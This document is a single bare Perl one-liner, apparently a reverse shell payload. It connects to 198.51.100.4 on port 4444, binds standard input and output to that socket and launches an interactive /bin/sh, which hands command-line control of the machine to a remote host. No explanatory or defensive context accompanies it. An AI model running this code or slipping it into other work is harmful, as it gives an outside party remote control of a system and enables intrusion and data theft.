use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4444,inet_aton("198.51.100.4")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};
